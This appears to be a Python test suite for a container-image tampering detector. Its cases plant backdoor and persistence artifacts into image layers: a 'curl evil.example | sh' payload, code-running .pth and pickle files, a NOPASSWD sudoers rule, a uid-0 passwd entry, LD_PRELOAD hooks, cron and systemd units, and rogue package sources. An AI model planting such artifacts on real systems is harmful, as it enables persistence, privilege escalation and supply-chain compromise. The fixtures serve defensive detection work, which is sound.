from harness import *
import base64, struct, marshal, re, types
C = []

def case(name, pair='app', bulk=True, modes=('alone', 'hidden'), cls='', want='loud'):

    def d(f):
        C.append(dict(name=name, pair=pair, bulk=bulk, modes=modes, f=f, cls=cls, want=want))
        return f
    return d
SH = b'#!/bin/sh\ncurl -s http://evil.example/x | sh\n'
SITE = 'usr/local/lib/python3.11/dist-packages/'

def flip(b):
    i = len(b) // 2
    return b[:i] + bytes([b[i] ^ 1]) + b[i + 1:]

def plant(name, path, data=SH, mode=420, **kw):

    @case(name, **kw)
    def f(L):
        L.put(path, data, mode=mode)

def add(name, path, data, **kw):

    @case(name, **kw)
    def f(L):
        L.append(path, data)
plant('path-local-bin', 'usr/local/bin/ls', mode=493)
plant('path-local-sbin', 'usr/local/sbin/apt-get', mode=493)
plant('path-local-lib-so', 'usr/local/lib/libz.so.1', b'\x7fELFevil')
plant('ld.so.preload', 'etc/ld.so.preload', '/var/cache/apt/archives/partial/x.so\n')
plant('ld.so.conf.d', 'etc/ld.so.conf.d/00-x.conf', '/var/tmp\n')
plant('profile.d', 'etc/profile.d/zz.sh')
add('root-bashrc', 'root/.bashrc', SH)
plant('skel', 'etc/skel/.bash_aliases')
plant('etc-environment', 'etc/environment', 'LD_PRELOAD=/tmp/x.so\n')
plant('sitecustomize', SITE + 'sitecustomize.py', 'import os\n')
plant('usercustomize', 'root/.local/lib/python3.11/site-packages/usercustomize.py', 'import os\n')
plant('pth', SITE + 'aaa.pth', 'import os;os.system("id")\n')
plant('editable-pth', SITE + '__editable__.flask-2.3.3.pth', 'import __editable___flask_finder; __editable___flask_finder.install()\n')
plant('editable-finder', SITE + '__editable___flask_finder.py', 'import os\n')
plant('so-beside-py', SITE + 'flask/app.cpython-311-x86_64-linux-gnu.so', b'\x7fELFx')
plant('abi3-so', SITE + 'six.abi3.so', b'\x7fELFx')
plant('pkg-dir-shadows-module', SITE + 'six/__init__.py', 'import os\n')
plant('cwd-shadow', 'app/requests.py', 'import os\n')
plant('namespace', 'usr/lib/python3/dist-packages/google/evil.py', 'import os\n')
plant('legacy-pyc', SITE + 'flask/evil.pyc', b'\xa7\r\r\n' + b'\x00' * 30)

@case('legacy-pyc-source-removed')
def f(L):
    L.delete(SITE + 'six.py')
    L.put(SITE + 'six.pyc', b'\xa7\r\r\n' + b'\x00' * 30)

def newpyc(L, pycpath, srcpath, src='import os;os.system("curl evil|sh")\n', flags=0, mtime=None, size=None):
    import importlib.util
    donor = L.img.read('usr/lib/python3.11/__pycache__/antigravity.cpython-311.pyc') if L.img.has('usr/lib/python3.11/__pycache__/antigravity.cpython-311.pyc') else L.img.read('usr/lib/python3.11/__pycache__/this.cpython-311.pyc')
    m = L.img.info(srcpath)
    while m.issym():
        srcpath = posixpath.normpath(posixpath.join(posixpath.dirname(srcpath), m.linkname)).strip('/')
        m = L.img.info(srcpath)
    mt = int(m.mtime) if mtime is None else mtime
    sz = m.size if size is None else size
    if flags:
        h = donor[:4] + struct.pack('<I', flags) + b'\x11' * 8
    else:
        h = donor[:4] + struct.pack('<III', 0, mt & 4294967295, sz & 4294967295)
    L.put(pycpath, h + donor[16:])

@case('pyc-header-moved-stdlib', cls='pyc by header')
def f(L):
    newpyc(L, 'usr/lib/python3.11/__pycache__/os.cpython-311.pyc', 'usr/lib/python3.11/os.py')

@case('pyc-other-interpreter', cls='pyc by header')
def f(L):
    newpyc(L, 'usr/lib/python3.11/__pycache__/json.cpython-312.pyc', 'usr/lib/python3.11/antigravity.py')

@case('pyc-unmoved-header')
def f(L):
    newpyc(L, SITE + '__pycache__/six.cpython-311.pyc', SITE + 'six.py')

@case('pyc-unchecked-unmoved')
def f(L):
    newpyc(L, SITE + 'jinja2/__pycache__/utils.cpython-311.pyc', SITE + 'jinja2/utils.py', flags=1)

@case('pyc-unchecked-moved')
def f(L):
    newpyc(L, SITE + 'flask/__pycache__/ctx.cpython-311.pyc', SITE + 'flask/ctx.py', flags=1)

@case('pyc-header-app-added')
def f(L):
    newpyc(L, 'app/__pycache__/app.cpython-311.pyc', 'app/app.py')
add('passwd-uid0', 'etc/passwd', 'toor::0:0::/root:/bin/sh\n')

@case('shadow-root-hash')
def f(L):
    L.edit('etc/shadow', lambda b: b.replace(b'root:*:', b'root:$6$aa$bb:'))
add('group-member', 'etc/group', 'docker:x:999:app\n')
add('gshadow', 'etc/gshadow', 'x:!::\n')
add('subuid', 'etc/subuid', 'app:0:65536\n')
plant('sudoers.d', 'etc/sudoers.d/x', 'ALL ALL=(ALL) NOPASSWD: ALL\n')
plant('authorized_keys', 'root/.ssh/authorized_keys', 'ssh-ed25519 AAAA x\n', mode=384)
plant('sshd_config.d', 'etc/ssh/sshd_config.d/x.conf', 'PermitRootLogin yes\n')
plant('ssh-user-rc', 'root/.ssh/rc')
add('pam-conffile-unmoved', 'etc/pam.d/login', 'auth sufficient pam_permit.so\n')
add('pam-conffile-moved', 'etc/pam.d/other', 'auth sufficient pam_permit.so\n')
add('security-conf-moved', 'etc/security/pam_env.conf', 'LD_PRELOAD DEFAULT=/tmp/x.so\n')

@case('securetty-removed')
def f(L):
    L.delete('etc/securetty') if L.img.has('etc/securetty') else L.delete('etc/security/limits.conf')
add('nsswitch', 'etc/nsswitch.conf', 'hosts: evil\n')
add('login.defs', 'etc/login.defs', 'UMASK 000\n')
plant('cron.d', 'etc/cron.d/x', '* * * * * root sh /tmp/x\n')
plant('crontab-root', 'var/spool/cron/crontabs/root', '* * * * * sh\n', mode=384)
plant('etc-crontab', 'etc/crontab', '* * * * * root sh\n')
plant('cron.daily', 'etc/cron.daily/zz', mode=493)
add('cron.daily-conffile-moved', 'etc/cron.daily/apt-compat', 'curl evil|sh\n')
plant('systemd-unit', 'etc/systemd/system/x.service', '[Service]\nExecStart=/bin/sh\n')
plant('systemd-unit-lib', 'usr/lib/systemd/system/x.service', '[Service]\nExecStart=/bin/sh\n')

@case('systemd-wants')
def f(L):
    L.put('etc/systemd/system/y.service', '[Service]\nExecStart=/bin/sh\n')
    L.link('etc/systemd/system/multi-user.target.wants/y.service', '/etc/systemd/system/y.service')
plant('systemd-dropin', 'etc/systemd/system/apt-daily.service.d/x.conf', '[Service]\nExecStartPre=/bin/sh\n')
plant('systemd-generator', 'usr/lib/systemd/system-generators/x', mode=493)
plant('tmpfiles.d', 'etc/tmpfiles.d/x.conf', 'f+ /etc/cron.d/x\n')
plant('udev-rule', 'etc/udev/rules.d/99.rules', 'RUN+="/bin/sh"\n')
plant('modprobe.d', 'etc/modprobe.d/x.conf', 'install x /bin/sh\n')
plant('init.d', 'etc/init.d/x', mode=493)

@case('rc-link')
def f(L):
    L.link('etc/rc2.d/S99x', '../init.d/x')
plant('rc.local', 'etc/rc.local', mode=493)
plant('logrotate', 'etc/logrotate.d/x', '/var/log/x { postrotate\n sh\n endscript }\n')
plant('motd', 'etc/update-motd.d/00-x', mode=493)
plant('apt-hook', 'etc/apt/apt.conf.d/99x', 'DPkg::Pre-Invoke {"sh /tmp/x";};\n')
plant('apt-key', 'etc/apt/trusted.gpg.d/x.gpg', b'\x99\x01')
plant('apt-source', 'etc/apt/sources.list.d/x.list', 'deb [trusted=yes] http://evil ./\n')
plant('apt-pref', 'etc/apt/preferences.d/x', 'Package: *\nPin: origin evil\nPin-Priority: 1001\n')
plant('dpkg-cfg', 'etc/dpkg/dpkg.cfg.d/x', 'pre-invoke=sh /tmp/x\n')
plant('pip-conf', 'etc/pip.conf', '[global]\nindex-url=http://evil\n')
plant('pip-conf-user', 'root/.config/pip/pip.conf', '[global]\nindex-url=http://evil\n')
plant('netrc', 'root/.netrc', 'machine x login y password z\n')
plant('npmrc', 'root/.npmrc', 'registry=http://evil\n')
plant('pypirc', 'root/.pypirc', 'x')
plant('gitconfig', 'etc/gitconfig', '[core]\n fsmonitor = sh\n')
plant('curlrc', 'root/.curlrc', 'insecure\nproxy=evil\n')
plant('docker-config', 'root/.docker/config.json', '{"auths":{"x":{"auth":"eA=="}}}')
add('certifi-vendored', SITE + 'certifi/cacert.pem', '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n')
plant('openssl-cnf-include', 'etc/ssl/openssl.cnf.d/x.cnf', 'x')
add('openssl-cnf-conffile', 'etc/ssl/openssl.cnf', '.include /tmp/x\nopenssl_conf=e\n')
plant('ca-pem-plain', 'etc/ssl/certs/evil2.pem', '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n')
plant('ca-hash-file', 'etc/ssl/certs/abcdef01.0', '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n')

@case('terminfo-unmoved')
def f(L):
    p = next((k for k in ('lib/terminfo/x/xterm', 'usr/share/terminfo/x/xterm') if L.img.has(k)))
    L.edit(p, flip)

@case('zoneinfo-moved')
def f(L):
    L.edit('usr/share/zoneinfo/Europe/Paris', flip)

@case('locale-unmoved')
def f(L):
    L.edit('usr/lib/locale/C.utf8/LC_CTYPE', flip)

@case('gconv-so-unmoved')
def f(L):
    L.edit('usr/lib/x86_64-linux-gnu/gconv/BIG5.so', flip)
plant('gconv-conf.d', 'usr/lib/x86_64-linux-gnu/gconv/gconv-modules.d/x.conf', 'module X// INTERNAL /tmp/x 1\n')

@case('binary-moved')
def f(L):
    L.edit('usr/bin/openssl', flip)

@case('ca-crt-removed')
def f(L):
    L.delete('usr/share/ca-certificates/mozilla/ISRG_Root_X1.crt')

@case('opaque-hides')
def f(L):
    L._parents('usr/share/perl5/Debconf/x')
    L.e.append((tarfile.TarInfo('usr/share/perl5/Debconf/.wh..wh..opq'), b''))
    L.watch.append('/usr/share/perl5/Debconf/Db.pm')

@case('device-sda')
def f(L):
    L.put('usr/share/x/sda', type=tarfile.BLKTYPE, devmajor=8, devminor=0, mode=438)

@case('device-in-tmp')
def f(L):
    L.put('tmp/kmem', type=tarfile.CHRTYPE, devmajor=1, devminor=2, mode=438)

@case('fifo-in-run')
def f(L):
    L.put('run/f', type=tarfile.FIFOTYPE, mode=438)

@case('char00-over-file')
def f(L):
    L.put('usr/bin/tac', type=tarfile.CHRTYPE, devmajor=0, devminor=0)
plant('unicode-name', 'usr/bin/sуdo', mode=493)
plant('newline-name', 'usr/bin/a\nb', mode=493)
plant('escape-name', 'usr/bin/\x1b[2Kx', mode=493)
plant('case-name', 'usr/bin/LS', mode=493)
plant('trailing-space', 'usr/bin/ls ', mode=493)
plant('long-name', 'opt/' + 'd' * 200 + '/' + 'f' * 200)
plant('dotdot-like', 'tmp/.../x', mode=493)
plant('noise-name-elsewhere', 'opt/tmp/x')
plant('pkl', 'app/model.pkl', b'\x80\x04cos\nsystem\n(S"id"\ntR.')
plant('pt', 'app/model.pt', b'PK\x03\x04evil')
plant('wheel', 'wheels/flask-2.3.3-py3-none-any.whl', b'PK\x03\x04evil')
plant('notebook', 'app/x.ipynb', '{}')
plant('git-hook', 'app/.git/hooks/post-checkout', mode=493)
plant('git-config', 'app/.git/config', '[core]\n sshCommand=sh\n')
plant('npm-module', 'usr/lib/node_modules/x/index.js', 'x')
plant('perl5lib', 'usr/local/share/perl/5.36.0/strict.pm', 'system("x")')
plant('perl-etc-sitecustomize', 'etc/perl/sitecustomize.pl', 'x')
plant('java-ext', 'usr/lib/jvm/x.jar', b'PK')
plant('vimrc', 'root/.vimrc', 'autocmd')
plant('inputrc', 'etc/inputrc', 'x')
plant('fish', 'etc/fish/conf.d/x.fish')
plant('xdg-autostart', 'etc/xdg/autostart/x.desktop', '[Desktop Entry]\nExec=sh\n')
plant('dbus-service', 'usr/share/dbus-1/system-services/x.service', '[D-BUS Service]\nExec=sh\nUser=root\n')
plant('polkit', 'etc/polkit-1/rules.d/x.rules', 'polkit.addRule')

@case('setuid-new')
def f(L):
    L.put('usr/bin/pkexec2', b'\x7fELF', mode=2541)

@case('setuid-in-tmp')
def f(L):
    L.put('tmp/su', b'\x7fELF', mode=2541)

@case('hardlink-shadow')
def f(L):
    L.put('app/notes', type=tarfile.LNKTYPE, linkname='etc/shadow')

@case('symlink-tmp-to-shadow')
def f(L):
    L.link('tmp/s', '/etc/shadow')

@case('dir-to-symlink')
def f(L):
    L.link('usr/lib/python3.11/json', '/opt/json')

def meta(name, path, **kw):

    @case('meta-' + name, cls='metadata')
    def f(L):
        L.chmod(path, **kw)
meta('shadow-0666', 'etc/shadow-', mode=438)
meta('passwd-0666', 'etc/passwd-', mode=438)
meta('hosts-worldwritable', 'etc/hostname', mode=438)
meta('etc-dir-0777', 'etc/default', mode=511)
meta('sudo-bin-dir-owner', 'usr/sbin', uid=1000)
meta('setgid-dir', 'var/mail', mode=1535)
meta('unmoved-bin-0777', 'usr/bin/find', mode=511)
meta('unmoved-bin-owner', 'usr/bin/head', uid=1000)
meta('unmoved-ima', 'usr/bin/sum', pax_headers={'SCHILY.xattr.security.ima': '\x03'})
meta('moved-bin-0777', 'usr/bin/c_rehash', mode=511)
meta('moved-bin-owner', 'usr/bin/perl', uid=1000)
meta('moved-pypi-owner', SITE + 'requests/adapters.py', uid=1000, mode=438)
meta('moved-conffile-worldwritable', 'etc/pam.d/other2' if False else 'etc/security/limits.conf', mode=438)
meta('moved-dir-0777', 'usr/lib/python3.11/asyncio', mode=511)
meta('app-worldwritable', 'app/app.py', mode=438)

@case('meta-shadow-real-0644', cls='metadata')
def f(L):
    L.chmod('etc/gshadow-', mode=420)
NP = dict(cls='noise path', want='likely')
plant('noise-tmp-so', 'tmp/x.so', b'\x7fELFx', **NP)
plant('noise-run-systemd', 'run/systemd/system/evil.service', '[Service]\nExecStart=/bin/sh -c evil\n', cls='noise path reached')
plant('noise-run-udev', 'run/udev/rules.d/99.rules', 'RUN+="sh"\n', cls='noise path reached')
plant('noise-run-sysctl', 'run/sysctl.d/x.conf', 'kernel.core_pattern=|/tmp/x\n', cls='noise path reached')
plant('noise-run-modprobe', 'run/modprobe.d/x.conf', 'install x sh\n', cls='noise path reached')
plant('noise-run-sudo-ts', 'run/sudo/ts/app', b'\x02', cls='noise path reached')
plant('noise-run-motd', 'run/motd.dynamic', 'x', **NP)
plant('noise-apt-archive', 'var/cache/apt/archives/curl_7_amd64.deb', b'!<arch>\nx', **NP)
plant('noise-pip-wheel-cache', 'root/.cache/pip/wheels/aa/bb/cc/wrapt-1.0-py3-none-any.whl', b'PK\x03\x04x', **NP)
plant('noise-uv-cache', 'root/.cache/uv/wheels-v1/x.py', 'import os', **NP)
plant('noise-hosts', 'etc/hosts', '6.6.6.6 pypi.org\n', **NP)
plant('noise-resolv', 'etc/resolv.conf', 'nameserver 6.6.6.6\n', **NP)
plant('noise-wtmp', 'var/log/wtmp', SH, **NP)
plant('noise-ucf', 'var/lib/ucf/hashfile.0', SH, **NP)
plant('noise-gitobj', 'app/.git/objects/ab/cdef0123456789012345678901234567890123', b'x\x9cevil', **NP)
plant('noise-viminfo', 'root/.viminfo', SH, **NP)
plant('noise-installer', SITE + 'six-1.17.0.dist-info/REQUESTED', SH, **NP)
plant('noise-npm', 'root/.npm/_cacache/content-v2/sha512/aa/bb/cc', SH, **NP)
plant('noise-debconf-pw', 'var/cache/debconf/passwords.dat', 'Name: x\nValue: y\n', **NP)
